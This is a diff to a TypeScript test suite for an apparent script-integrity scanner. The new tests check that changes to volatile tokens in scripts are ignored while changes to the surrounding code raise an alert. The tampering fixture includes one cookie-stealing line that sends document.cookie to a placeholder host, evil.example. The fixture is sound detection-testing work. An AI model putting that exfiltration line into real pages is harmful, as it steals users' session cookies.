@@ -14,7 +14,7 @@ const options = { removalThreshold: 2 };
 function approved(plan: ScanPlan): BaselineSnapshot {
   const scripts: KnownScript[] = plan.scripts.map((s, i) => ({
     id: i + 1, key: s.key, kind: s.kind, url: s.url, frameUrl: s.frameUrl, retired: false, missingStreak: 0,
-    accepted: s.sha256 ? [s.sha256] : [], lastSha: s.sha256, lastBody: s.sha256 ? plan.bodies.get(s.sha256) ?? null : null,
+    accepted: s.sha256 ? [s.sha256] : [], acceptedNormalized: s.meta.normalized ? [s.meta.normalized] : [], lastSha: s.sha256, lastBody: s.sha256 ? plan.bodies.get(s.sha256) ?? null : null,
   }));
   const headers = new Map<string, string[]>();
   const hosts = new Set<string>();
@@ -119,5 +119,30 @@ describe('planScan', () => {
     const plan = planScan(pageCapture([padded, LIB, INLINE_A, INLINE_B]), approved(first), options);
     assert.deepEqual(plan.alerts.map((a) => a.type), ['script.changed']);
     assert.equal(plan.bodies.has(fingerprint(padded.body!).sha256), false);
+  });
+});
+
+describe('volatile tokens', () => {
+  const withToken = (token: string, stamp: number) => pageCapture([
+    APP,
+    script({ kind: 'external', url: 'https://stats.example/collect.js', body: `window.__stats = { build: "${stamp}", ts: ${stamp}, sid: "${token}" };\nsend(window.__stats);` }),
+    script({ kind: 'inline', body: `window.csrfToken = "${token}";\nwindow.init();` }),
+  ]);
+  const first = planScan(withToken('q7Zx2Lp9Wm4Rt8Yv3Nb6Kd1F', 1732262400123), emptyBaseline(), options);
+
+  it('does not alert when only timestamps, ids and tokens differ, and records the raw hash', () => {
+    const again = planScan(withToken('Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0', 1732262499999), approved(first), options);
+    assert.deepEqual(again.alerts, []);
+    const stats = again.scripts.find((s) => s.url === 'https://stats.example/collect.js')!;
+    assert.notEqual(stats.sha256, first.scripts.find((s) => s.url === stats.url)!.sha256, 'the raw bytes did change');
+    assert.match(stats.meta.masked ?? '', /volatile tokens masked/);
+    assert.ok(again.scripts.every((s) => s.knownId !== null), 'the inline script kept its identity');
+  });
+
+  it('still alerts when the code around the tokens changes', () => {
+    const tampered = withToken('Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0', 1732262499999);
+    tampered.scripts[2] = script({ kind: 'inline', body: 'window.csrfToken = "Hk3Jd8Ls2Qw9Ez4Rx7Tc5Vb0";\nwindow.init();\nnew Image().src = "https://evil.example/?c=" + document.cookie;' });
+    const again = planScan(tampered, approved(first), options);
+    assert.deepEqual(again.alerts.map((a) => a.type), ['script.changed']);
   });
 });
